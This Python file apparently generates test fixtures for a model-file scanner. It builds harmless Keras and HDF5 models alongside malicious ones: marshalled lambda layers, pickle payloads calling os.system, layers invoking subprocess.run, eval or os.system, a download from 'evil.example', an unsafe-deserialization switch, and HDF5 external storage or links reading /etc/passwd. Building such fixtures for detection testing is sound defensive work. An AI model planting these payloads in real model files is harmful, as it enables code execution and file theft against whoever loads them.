"""Malicious and harmless Keras models and HDF5 files, written by hand so that nothing has to be installed to build them."""

import base64
import importlib.util
import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

from scanning import hdf5_file as h5
from scanning.assembler import StackGlobal, call, written
from scanning.described import marshalled_lambda
from scanning.recipe import Harmless, Recipe, Sentinel

OLD_KERAS = "needs an edition of Keras in which this way was open"
READS = "reads what it should not, without running anything"
NO_TENSORFLOW = "needs TensorFlow, whose operator is called"


def layer(name: str, config: dict[str, Any] | None = None, module: str = "keras.layers", **more: Any) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": name,
        "config": {"name": name.lower(), **(config or {})},
        "registered_name": None,
        **more,
    }


def function(name: str, module: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def sequential(*layers: dict[str, Any], sides: tuple[int, ...] = (4,)) -> dict[str, Any]:
    begin = layer("InputLayer", {"batch_shape": [None, *sides], "dtype": "float32"})
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [begin, *layers]},
        "registered_name": None,
    }


def older(model: Any) -> Any:
    """The model as editions before the third write it: objects by their classes alone."""
    if isinstance(model, list):
        return [older(one) for one in model]
    if isinstance(model, dict):
        return {key: older(one) for key, one in model.items() if key not in {"module", "registered_name"}}
    return model


def weights(**attributes: str | bytes) -> bytes:
    """An HDF5 file with these attributes at its root."""
    made = h5.Writer()
    kept = made.group(h5.link("kernel", made.numbers(b"\0\0\x80\x3f" * 16)))
    values = []
    for name, value in attributes.items():
        if isinstance(value, bytes):
            values.append(h5.words(name, value, ends=name == "model_config"))
        else:
            data = value.encode()
            values.append(h5.attribute(name, h5.VARYING_TEXT, h5.varying(made.heap(data), 1, len(data))))
    return made.file(made.group(h5.link("model_weights", kept), *values))


def archive(model: dict[str, Any], **encoding: str) -> bytes:
    """A `.keras` file of the model."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-11-01@00:00:00"}))
        made.writestr("config.json", json.dumps(model).encode(encoding.get("encoding", "utf-8")))
        made.writestr("model.weights.h5", weights())
    return out.getvalue()


def _legacy(model: dict[str, Any]) -> bytes:
    return weights(model_config=json.dumps(model), keras_version="3.15.1", backend="torch")


def _written(model: dict[str, Any]) -> bytes:
    return json.dumps(model).encode()


def _code(it: Sentinel) -> dict[str, Any]:
    return {"class_name": "__lambda__", "config": {"code": marshalled_lambda(it), "defaults": None, "closure": None}}


def _needs(*modules: str) -> str:
    """Why it is not proven where these are not installed."""
    missing = [one for one in modules if importlib.util.find_spec(one) is None]
    return f"needs {' '.join(missing)}, which loads it" if missing else ""


def _lambdas() -> dict[str, Callable[[Sentinel], bytes]]:
    def code_in(part: str) -> Callable[[Sentinel], dict[str, Any]]:
        return lambda it: layer("Lambda", {"function": function("relu", "keras.ops"), "arguments": {}, part: _code(it)})

    return {
        "lambda": lambda it: archive(sequential(code_in("function")(it))),
        "lambda for the shape": lambda it: archive(sequential(code_in("output_shape")(it))),
        "lambda in utf-16": lambda it: archive(sequential(code_in("function")(it)), encoding="utf-16-le"),
        "lambda in a wrapper": lambda it: archive(
            sequential(layer("TimeDistributed", {"layer": code_in("function")(it)}), sides=(3, 4))
        ),
        "lambda in a model": lambda it: archive(sequential(sequential(code_in("function")(it)))),
    }  # fmt: skip


def _old_lambdas() -> dict[str, Callable[[Sentinel], bytes]]:
    def listed(it: Sentinel, **more: Any) -> dict[str, Any]:
        inner = layer("Lambda", {"function": [marshalled_lambda(it), None, None], "arguments": {}, **more})
        return older(sequential(inner))

    def fixed(it: Sentinel, behind: bytes = b"") -> bytes:
        return weights(model_config=json.dumps(listed(it, function_type="lambda")).encode() + behind)

    return {
        "h5 lambda": lambda it: _legacy(listed(it, function_type="lambda")),
        "h5 lambda that does not say so": lambda it: _legacy(listed(it)),
        "h5 lambda of Keras 3": lambda it: _legacy(
            sequential(layer("Lambda", {"function": _code(it), "arguments": {}}))
        ),
        "h5 lambda as fixed text": fixed,
        "h5 lambda behind an end": lambda it: fixed(it, b"\0 nothing"),
    }


def _calls() -> dict[str, dict[str, Any]]:
    def called(name: str, module: str, **arguments: Any) -> dict[str, Any]:
        return layer("Lambda", {"function": function(name, module), "arguments": arguments})

    return {
        "CVE-2025-1550": called("run", "subprocess", args=["id"]),
        "CVE-2025-8747": called("get_file", "keras.utils", origin="https://evil.example/a.tar", extract=True),
        "CVE-2025-9906": called("enable_unsafe_deserialization", "keras.config"),
        "CVE-2025-9906 switch": called("set_global_attribute", "keras.src.backend.common.global_state", value=False),
        "model of a model": called("load_model", "keras.models", safe_mode=False),
        "copy of a file": called("copy", "keras.src.utils.file_utils", dst="/tmp/x"),
        "loss of os": layer("Dense", {"units": 1}, compile_config={"loss": function("system", "os")}),
        "metric of builtins": layer("Dense", {"units": 1}, compile_config={"metrics": [function("eval", "builtins")]}),
        "known class of ctypes": layer("Dense", {"units": 1}, "ctypes"),
    }


def _reads() -> dict[str, bytes]:
    return {
        "keras/CVE-2025-12058": archive(sequential(layer("StringLookup", {"vocabulary": "/etc/passwd"}))),
        "keras/CVE-2025-12058-network": archive(sequential(layer("StringLookup", {"vocabulary": "http://evil.example/"}))),
        "keras/graph-elsewhere": archive(sequential(layer("TFSMLayer", {"filepath": "/tmp/graph"}))),
        "hdf5/external-storage": _external_storage("/etc/passwd"),
        "hdf5/external-storage-above": _external_storage("../../../../etc/passwd"),
        "hdf5/external-link": h5.weights(h5.external_link("more", "/etc/other.h5")),
        "hdf5/virtual-dataset": _virtual("/etc/other.h5"),
    }  # fmt: skip


def _external_storage(file: str) -> bytes:
    """A dataset whose numbers are those of another file (CVE-2026-1669)."""
    made = h5.Writer()
    words = b"\0" * 8 + file.encode() + b"\0" * (8 - len(file) % 8)
    heap = made.put(b"HEAP\0\0\0\0" + struct.pack("<QQQ", len(words), 1, made.put(words)))
    storage = h5.message(0x07, struct.pack("<B3xHHQ", 1, 1, 1, heap) + struct.pack("<QQQ", 8, 0, 64))
    layout = h5.message(0x08, b"\x03\x01" + h5.UNDEFINED + struct.pack("<Q", 64))
    data = made.header(h5.space(16), h5.message(0x03, h5.NATIVE_FLOAT), layout, storage)
    return made.file(made.group(h5.link("d", data)))


def _virtual(file: str) -> bytes:
    made = h5.Writer()
    heap = made.heap(b"\0" + struct.pack("<Q", 1) + file.encode() + b"\0/d\0" + b"\0" * 60)
    layout = h5.message(0x08, struct.pack("<BBQI", 4, 3, heap, 1))
    data = made.header(h5.space(16), h5.message(0x03, h5.NATIVE_FLOAT), layout)
    return made.file(made.group(h5.link("d", data)))


def _operators() -> dict[str, dict[str, Any]]:
    names = ("io.read_file", "io.write_file", "py_function", "compat.v1.py_func", "raw_ops.ReadFile", "load_op_library")
    made = {name: layer("TFOpLambda", {"function": name}) for name in names}
    return {**made, "node": layer("TensorFlowOpLayer", {"node_def": json.dumps({"op": "WriteFile", "name": "n"})})}


def _pickled() -> dict[str, Callable[[Sentinel], bytes]]:
    def payload(it: Sentinel) -> bytes:
        return written(call("os:system", it.shell), StackGlobal)

    def in_a_dataset(it: Sentinel) -> bytes:
        made = h5.Writer()
        return made.file(made.group(h5.link("d", made.numbers(payload(it), kind=BYTES, sides=[len(payload(it))]))))

    return {
        "attribute": lambda it: weights(TITLE=payload(it)),
        "attribute in a heap": lambda it: _in_a_heap(payload(it)),
        "dataset": in_a_dataset,
    }


BYTES = struct.pack("<B3BI", 0x10, 0, 0, 0, 1) + b"\0\0\x08\0"


def _in_a_heap(value: bytes) -> bytes:
    made = h5.Writer()
    kind = struct.pack("<B3BI", 0x19, 0, 0, 0, 16) + BYTES
    kept = h5.attribute("TITLE", kind, h5.varying(made.heap(value), 1, len(value)))
    return made.file(made.group(kept))


def recipes() -> Iterator[Recipe]:
    loading = _needs("keras", "torch", "h5py")
    for title, make in {**_lambdas(), **_old_lambdas()}.items():
        yield Recipe(
            id=f"keras-3/{title.replace(' ', '-')}", family="Keras", file="m.h5" if "h5" in title else "m.keras",
            loader="keras", make=make, unproven=loading,
        )  # fmt: skip
    for title, one in _calls().items():
        slug = title.replace(" ", "-")
        yield _still(f"keras-3/{slug}", "m.keras", OLD_KERAS, archive(sequential(one)))
        yield _still(f"keras-3/{slug}-json", "m.json", OLD_KERAS, _written(sequential(one)))
    for title, one in _operators().items():
        yield _still(f"keras-2/{title}", "m.h5", NO_TENSORFLOW, _legacy(older(sequential(one))))
    for name, made in _reads().items():
        yield _still(name, "m.keras" if name.startswith("keras") else "m.h5", READS, made)
    for title, make in _pickled().items():
        yield Recipe(
            id=f"hdf5/pickle-in-an-{title.replace(' ', '-')}", family="HDF5", file="m.h5", loader="hdf5-pickle-way",
            make=make, unproven=_needs("h5py"),
        )  # fmt: skip
    yield Recipe(
        id="keras-3/lambda-json", family="Keras", file="m.json", loader="keras-json", unproven=loading,
        make=lambda it: _written(sequential(layer("Lambda", {"function": _code(it), "arguments": {}}))),
    )  # fmt: skip
    yield Recipe(
        id="keras-3/torch-module", family="Keras", file="m.keras", loader="keras", unproven=loading,
        make=lambda it: archive(
            sequential(layer("TorchModuleWrapper", {"module": base64.b64encode(written(call("os:system", it.shell))).decode()}))
        ),
    )  # fmt: skip


def _still(named: str, file: str, why: str, made: bytes) -> Recipe:
    return Recipe(id=named, family="Keras", file=file, loader="none", make=lambda _: made, unproven=why)


def harmless() -> Iterator[Harmless]:
    layers = {
        "dense": layer("Dense", {"units": 2, "activation": "relu", "kernel_initializer": layer("GlorotUniform", {}, "keras.initializers")}),
        "conv": layer("Conv2D", {"filters": 2, "kernel_size": [3, 3], "kernel_regularizer": layer("L2", {"l2": 0.1}, "keras.regularizers")}),
        "lstm": layer("Bidirectional", {"layer": layer("LSTM", {"units": 2})}),
        "lookup": layer("StringLookup", {"vocabulary": ["a", "b"]}),
        "operator": layer("TFOpLambda", {"function": "math.multiply"}),
        "function": layer("Dense", {"units": 1, "activation": function("gelu", "keras.activations")}),
        "compiled": layer("Dense", {"units": 1}, compile_config={"optimizer": layer("Adam", {}, "keras.optimizers"), "loss": "mse"}),
    }  # fmt: skip
    for title, one in layers.items():
        for file, make in {"keras": archive, "h5": _legacy, "json": _written}.items():
            yield Harmless(
                id=f"keras/written-{title}-{file}", family="Keras", file=f"m.{file}",
                make=lambda one=one, make=make: make(sequential(one)),
            )  # fmt: skip
    yield Harmless(id="hdf5/weights", family="HDF5", file="w.h5", make=lambda: weights(backend="numpy"))
    yield Harmless(
        id="hdf5/pickled-numbers", family="HDF5", file="w.h5", make=lambda: weights(FILTERS=pickle.dumps({"a": [1, 2]}, 0))
    )  # fmt: skip
